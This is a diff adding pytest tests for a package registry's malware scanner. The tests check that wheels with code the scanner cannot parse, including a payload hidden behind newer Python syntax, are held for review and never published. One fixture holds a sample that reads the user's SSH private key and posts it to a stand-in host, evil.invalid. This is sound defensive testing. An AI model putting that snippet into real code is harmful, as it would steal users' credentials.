@@ -1,0 +1,85 @@
+"""What nobody could read is held for review, through the whole publish path."""
+
+from __future__ import annotations
+
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from catalog.models import Release
+from publishing.checks import scanning
+from security_scan.sandbox import interpreter, interpreters
+from tests.language import Person, assert_finding
+from tests.language.work import through
+from tests.package.wheels import CODE, build_wheel
+
+pytestmark = pytest.mark.sandbox
+
+OWN = interpreter().minor
+NEWER = [python for python in interpreters() if python.minor > OWN]
+needs_newer = pytest.mark.skipif(not NEWER, reason="needs a Python newer than this one")
+ALIASES = "".join(f"type T{n} = int\n" for n in range(45))
+HELLO = CODE.format(function="hello")
+THEFT = """
+import pathlib
+import urllib.request
+
+
+def steal() -> None:
+    key = pathlib.Path.home().joinpath(".ssh", "id_rsa").read_bytes()
+    urllib.request.urlopen("https://evil.invalid/", key)
+"""
+
+
+@pytest.fixture
+def every_python(settings: Any) -> None:
+    """Tools are tested on each Python of this machine, as `make run` does it."""
+    settings.SANDBOX_PYTHONS = []
+
+
+def _newer(folder: Path, code: str, **parts: Any) -> Path:
+    return build_wheel(folder, code=code, metadata={"Requires-Python": ">=3.12"}, **parts)
+
+
+@needs_newer
+def test_theft_behind_newer_syntax_never_goes_live(alice: Person, tmp_path: Path) -> None:
+    ended = through(alice, _newer(tmp_path, HELLO + ALIASES + THEFT))
+    assert ended["state"] in ("held", "rejected"), ended
+    finding = assert_finding(ended, "malware/data-theft")
+    line = (
+        (HELLO + ALIASES + THEFT)
+        .splitlines()
+        .index('    urllib.request.urlopen("https://evil.invalid/", key)')
+    )
+    assert (finding["file"], finding["line"]) == ("demo_hello/__init__.py", line + 1)
+    assert not Release.objects.exists()
+
+
+@needs_newer
+@pytest.mark.usefixtures("every_python")
+def test_honest_newer_code_goes_live_and_loses_nothing(alice: Person, tmp_path: Path) -> None:
+    ended = through(alice, _newer(tmp_path, HELLO + "type Names = list[str]\n"))
+    assert ended["state"] == "published", ended
+    assert ended["scores"]["security"] == 100
+    assert not [f for f in ended["findings"] if f["file"].endswith(".py")]
+
+
+@pytest.mark.skipif(sys.version_info >= (3, 12), reason="this Python reads it")
+def test_where_no_python_is_newer_the_same_code_is_held(
+    alice: Person, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(scanning, "newest_python", lambda: None)
+    ended = through(alice, _newer(tmp_path, HELLO + ALIASES + "x = 1\n"))
+    assert ended["state"] == "held", ended
+    finding = assert_finding(ended, "files/unparsable")
+    assert finding["message"] in ended["reasons"]
+    assert not Release.objects.exists()
+
+
+def test_a_file_that_no_python_can_parse_is_held(alice: Person, tmp_path: Path) -> None:
+    files = {"demo_hello/old.py": "print 'hello'\n"}
+    ended = through(alice, build_wheel(tmp_path, files=files))
+    assert ended["state"] == "held", ended
+    assert assert_finding(ended, "files/unparsable")["line"] == 1
